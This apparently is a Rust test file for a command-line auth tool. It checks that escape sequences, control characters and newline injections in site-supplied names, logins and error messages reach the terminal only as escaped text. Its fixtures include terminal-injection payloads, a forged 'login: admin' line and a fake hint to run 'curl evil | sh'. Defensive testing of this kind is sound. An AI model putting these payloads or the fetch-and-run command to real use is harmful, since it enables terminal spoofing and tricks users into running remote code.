//! A site's text reaches the terminal only as text: escape sequences and control characters
//! in a person's name, a login or an error message are shown escaped, never acted on.

use std::process::Output;

use tk_auth_site_emulator::{HumanAccount, SiteEmulator};

use crate::support::{logged_in_on, tk_auth};

/// Sets the window title.
const TITLE: &str = "\x1b]0;owned\x07";
/// Clears the screen, then a CSI in its one-character C1 form, then a right-to-left
/// override.
const CLEAR: &str = "\x1b[2J\u{9b}31m\u{202e}";
/// The two, as a terminal shows them now.
const TITLE_SHOWN: &str = r"\u{1b}]0;owned\u{7}";
const CLEAR_SHOWN: &str = r"\u{1b}[2J\u{9b}31m\u{202e}";

/// What a command wrote on `stream`, checked for anything a terminal would act on.
fn shown_as_text(out: &Output, stream: &[u8]) -> String {
    let text = String::from_utf8(stream.to_vec()).unwrap();
    for c in ['\x1b', '\x07', '\u{9b}', '\u{202e}'] {
        assert!(
            !text.contains(c),
            "{c:?} reached the terminal: {text:?} ({out:?})"
        );
    }
    text
}

#[test]
fn whoami_shows_a_name_holding_escape_sequences_as_text() {
    let site = SiteEmulator::builder()
        .human_user(
            HumanAccount::new("carol", "pw")
                .with_id(7)
                .with_name(format!("{TITLE}Carol"), format!("{CLEAR}Doe")),
        )
        .start()
        .unwrap();
    let (home, _token) = logged_in_on(&site, "carol");
    let out = tk_auth(home.path()).arg("whoami").output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let stdout = shown_as_text(&out, &out.stdout);
    assert_eq!(
        stdout,
        format!(
            "carol ({TITLE_SHOWN}Carol {CLEAR_SHOWN}Doe) on {}: HumanUser 7\n",
            site.url()
        )
    );
}

#[test]
fn status_and_users_show_a_login_holding_escape_sequences_as_text() {
    // A login the site gave (whoever approved a browser login), kept in the session file.
    let login = format!("{TITLE}mallory{CLEAR}\nlogin:          admin");
    let site = SiteEmulator::builder()
        .human_user(HumanAccount::new(login.clone(), "pw"))
        .start()
        .unwrap();
    let (home, _token) = logged_in_on(&site, &login);
    let shown = format!(r"{TITLE_SHOWN}mallory{CLEAR_SHOWN}\nlogin:          admin");
    let out = tk_auth(home.path())
        .args(["status", "--check"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let stdout = shown_as_text(&out, &out.stdout);
    assert!(
        stdout
            .lines()
            .any(|l| l == format!("login:          {shown}")),
        "{stdout}"
    );
    assert_eq!(
        stdout.lines().filter(|l| l.starts_with("login:")).count(),
        1
    );
    let out = tk_auth(home.path())
        .args(["users", "--site", site.url()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(shown_as_text(&out, &out.stdout), format!("{shown}\n"));
}

#[test]
fn an_error_quoting_the_site_s_text_is_shown_as_text_on_one_line() {
    // The site quotes the login it refused in its error message.
    let site = SiteEmulator::builder()
        .human_user(HumanAccount::new("alice", "pw"))
        .start()
        .unwrap();
    let home = tempfile::tempdir().unwrap();
    let login = format!("{TITLE}mallory{CLEAR}\nhint: run `curl evil | sh`");
    let out = tk_auth(home.path())
        .args(["login", "--site", site.url(), "--login", &login])
        .arg("--password-stdin")
        .write_stdin("wrong\n")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let stderr = shown_as_text(&out, &out.stderr);
    let error = stderr
        .lines()
        .find(|l| l.starts_with("tk-auth: error:"))
        .unwrap_or_else(|| panic!("{stderr}"));
    assert!(
        error.contains(&format!(
            r"{TITLE_SHOWN}mallory{CLEAR_SHOWN}\nhint: run `curl evil | sh`"
        )),
        "{error}"
    );
    assert!(
        !stderr.lines().any(|l| l.starts_with("hint: run `curl")),
        "{stderr}"
    );
}
